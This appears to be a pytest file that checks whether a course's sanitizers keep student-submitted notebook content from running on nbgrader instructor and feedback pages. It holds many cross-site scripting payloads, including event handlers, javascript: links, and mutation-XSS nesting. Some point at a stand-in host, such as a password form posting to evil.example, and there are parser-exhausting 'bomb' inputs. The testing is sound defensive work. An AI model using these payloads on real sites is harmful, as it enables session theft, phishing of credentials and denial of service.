"""Nothing that a student wrote runs on an instructor's page: nbgrader's own feedback and formgrader pages are made of
a notebook full of attacks, and looked at as a browser would."""

from __future__ import annotations

import base64
import copy
from pathlib import Path
from time import process_time

import nbformat
import pytest

pytest.importorskip("nbgrader")

import nbgrader
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbgrader.utils import compute_checksum
from traitlets.config import Config

from lstm_course.grading.publishing.sanitize_markup import clean_html, clean_markdown
from lstm_course.grading.publishing.sanitize_page import clean_notebook, clean_outputs

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode()
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT/x>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img alt=x\x0bonerror=alert(1)>",
    "<img alt=x\xa0onerror=alert(1)>",
    "<img alt='a\"onerror=alert(1) b=\"'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='files/javascript:alert(1)'>x</a>",
    "<a href='files/files/javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><link rel=stylesheet href=//e>",
    "<style>* {display: none}</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:red'>you were hacked</div>",
    "<div class='navbar-fixed-top modal' id=score>x</div>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)>x</details>",
    "<textarea></div></body>",
    "</div></div></div></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<img src=//evil.example/i.png><img src='/hub/logout'><img src='../../logout'>",
    "<video src=x onerror=alert(1)><audio autoplay src=//evil.example>",
    "<x onclick=alert(1)>x</x>",
]
MARKDOWN_ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](files/javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x" onerror="alert(1)](y)',
    "```mermaid\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "$\\href{javascript:alert(1)}{x}$ <script>alert(1)</script>",
    "![x](attachment:none.png)",
    "![x](attachment:evil.svg)",
    "<pre>\n\n[x](javascript:alert(1))\n</pre><script>alert(1)</script>",
    "[" * 30_000,
    "<div title='\n\nhidden",
]
_NAMES = "script style link meta title iframe object embed form base svg math video audio noscript frame frameset"
FORBIDDEN = _NAMES.split()
EVIL = "\"'><script>alert(1)</script>"


def _output(kind, text):
    return {"output_type": "display_data", "data": {kind: text, "text/plain": "plain"}, "metadata": {}}


def _outputs(text):
    isolated = {"text/html": {"isolated": True}}
    return [
        *[_output(kind, text) for kind in ("text/html", "text/markdown", "text/latex", "text/plain")],
        *[_output(kind, text) for kind in ("image/svg+xml", "application/javascript", "image/png", "image/jpeg")],
        _output("application/vnd.jupyter.widget-view+json", {"model_id": text}),
        _output("text/html", text) | {"metadata": isolated},
        {"output_type": "execute_result", "data": {"text/html": [text]}, "metadata": {}, "execution_count": text},
        {"output_type": "stream", "name": text, "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        {"output_type": text, "data": {"text/html": text}},
        7,
    ]


def _notebook():
    marks = {"schema_version": 3, "grade": True, "solution": True, "locked": False, "grade_id": "why", "points": 1}
    metadata = {
        "title": EVIL, "authors": [{"name": EVIL}], "widgets": {"application/vnd.jupyter.widget-state+json": EVIL},
        "language_info": {"name": EVIL, "pygments_lexer": EVIL}, "kernelspec": {"name": EVIL, "display_name": EVIL},
    }  # fmt: skip
    cells = []
    for text in [*ATTACKS, *MARKDOWN_ATTACKS]:
        cells.append({"cell_type": "markdown", "metadata": {"tags": [EVIL]}, "source": text})
        cells.append({"cell_type": "markdown", "metadata": {"nbgrader": marks}, "source": f"My answer. {text}"})
        cells[-1]["attachments"] = {"evil.svg": {"image/svg+xml": text}, EVIL: {"image/png": PNG}}
        cells.append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": EVIL}, "source": text})
        code = {"tags": [EVIL], "magics_language": EVIL, "name": EVIL, "nbgrader": {**marks, "grade_id": EVIL}}
        cells.append({"cell_type": "code", "metadata": code, "source": f"%%html\n{text}", "execution_count": EVIL})
        cells[-1]["outputs"] = clean_outputs(_outputs(text))
    data = {"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 4}
    return nbformat.from_dict(copy.deepcopy(data))


def _page(notebook, template):
    home = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [str(home / "templates")]
    config.HTMLExporter.extra_template_paths = [
        str(home / "static" / "node_modules" / "bootstrap" / "dist" / "css"),
        str(home / "templates" / "formgrade"),
    ]
    about = {"notebook": "toy", "score": 1, "max_score": 1, "late_penalty": 0}
    resources = {"nbgrader": about, "base_url": "", "index": 0, "total": 1, "notebook_id": "toy"}
    page, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources)
    return BeautifulSoup(page, "html.parser")


def _scripts(page):
    return [str(script) for script in page.find_all("script")]


def _dangers(page, own):
    """Return what is on a page and not the template's own."""
    return [str(tag)[:200] for tag in page.find_all(True) if _is_dangerous(tag) and str(tag) not in own]


def _is_dangerous(tag):
    if tag.name in ("button", "input", "textarea"):
        return not {"btn", "tabbable"} & set(tag.get("class", ()))  # formgrader's own boxes for the marks
    if tag.name in FORBIDDEN:
        return True
    for name, value in tag.attrs.items():
        text = "".join(" ".join(value if isinstance(value, list) else [value]).split()).lower()
        picture = text.startswith(("data:image/png;base64,", "data:image/jpeg;base64,"))
        elsewhere = name == "src" and text[:1] in ("/", ".")
        if name.startswith("on") or (name in ("href", "src") and ":" in text and not picture) or elsewhere:
            return True
        if name == "style" and ("position" in text or "url" in text):
            return True
    return False


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_nothing_of_a_students_runs_on_an_instructors_page(template):
    blank = _page(nbformat.v4.new_notebook(), template)
    own = {str(tag) for tag in blank.find_all(True)}
    notebook = clean_notebook(_notebook())
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["score"] = 1  # as nbgrader's GetGrades does
    page = _page(notebook, template)
    assert _dangers(page, own) == []
    assert _scripts(page) == _scripts(blank)
    text = page.get_text()
    assert text.count("My answer.") >= len(ATTACKS) + len(MARKDOWN_ATTACKS)
    assert "<script>alert(1)</script>" in text  # shown, not run
    assert "navbar-fixed-top" not in {c for tag in page.find_all("div") for c in tag.get("class", ())}


def test_the_same_page_without_cleaning_is_dangerous():
    blank = _page(nbformat.v4.new_notebook(), "feedback")
    cell = nbformat.v4.new_markdown_cell("\n\n".join(ATTACKS[:5]))
    page = _page(nbformat.v4.new_notebook(cells=[cell]), "feedback")
    assert _dangers(page, {str(tag) for tag in blank.find_all(True)})


HONEST = [
    "# Title\n\nsome *text*, `x < y`, $a < b$ and\n$$\\sum_{i<3} x_{[i]}$$\n\n[a link](https://a.b/c?d=e&f=g)",
    "| a | b |\n|---|:-:|\n| [1](#one) | 2 |",
    "<details><summary>Hint 1</summary>\n\ntext **bold** `code`\n\n</details>",
    f'<b>so</b> ![plot](figure.png) <img src="data:image/png;base64,{PNG}" width="300">',
    "```python\nx = a[1] < 3\n```",
    '<div class="alert alert-info">Note</div>\n\n<p style="color:red; text-align: center">x</p> <br> a<sub>2</sub>',
]


@pytest.mark.parametrize("source", HONEST)
def test_honest_text_is_left_as_it_is(source):
    assert clean_markdown(source) == source


def test_harmless_markup_beside_an_attack_stays():
    cleaned = clean_markdown("**bold** <script>x()</script> $a<b$\n\n- [x] done\n\n| a |\n|---|\n| 1 |")
    page = BeautifulSoup(cleaned, "html.parser")
    assert page.find("strong").get_text() == "bold"
    assert page.find("td").get_text() == "1"
    assert "☑ done" in page.get_text()
    assert "<script>x()</script> $a<b$" in page.get_text()


def test_an_unanswered_question_is_still_known_as_such():
    stub = nbformat.v4.new_markdown_cell("<a name='x'></a> *Write here.* <!-- a comment of the instructor's -->")
    stub.metadata["nbgrader"] = {"schema_version": 3, "grade": True, "solution": True, "locked": False, "task": False}
    stub.metadata["nbgrader"] |= {"grade_id": "why", "points": 2}
    stub.metadata["nbgrader"]["checksum"] = compute_checksum(stub)
    cleaned = clean_notebook(nbformat.v4.new_notebook(cells=[copy.deepcopy(stub)])).cells[0]
    assert compute_checksum(cleaned) == stub.metadata["nbgrader"]["checksum"] == cleaned.metadata.nbgrader.checksum


def test_a_photographed_answer_stays():
    cell = nbformat.v4.new_markdown_cell("![my answer](attachment:photo.png)")
    cell["attachments"] = {"photo.png": {"image/png": PNG}}
    page = _page(clean_notebook(nbformat.v4.new_notebook(cells=[cell])), "feedback")
    assert page.find("img")["src"] == f"data:image/png;base64,{PNG}"


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 20_000,
        "<div x='1'>" * 1400,
        "".join(f"<b title={i}>" for i in range(2000)) + "<p>x" * 3000,
        "<" * 100_000,
        "<style" * 16_000,
        "<table>" * 5000,
        "[" * 100_000,
        "[a](" * 10_000,
        "&" * 50_000 + "<b>",
    ],
)
def test_markup_made_to_take_for_ever_takes_no_time(bomb):
    start = process_time()
    clean_html(bomb)
    clean_markdown(bomb)
    assert process_time() - start < 5
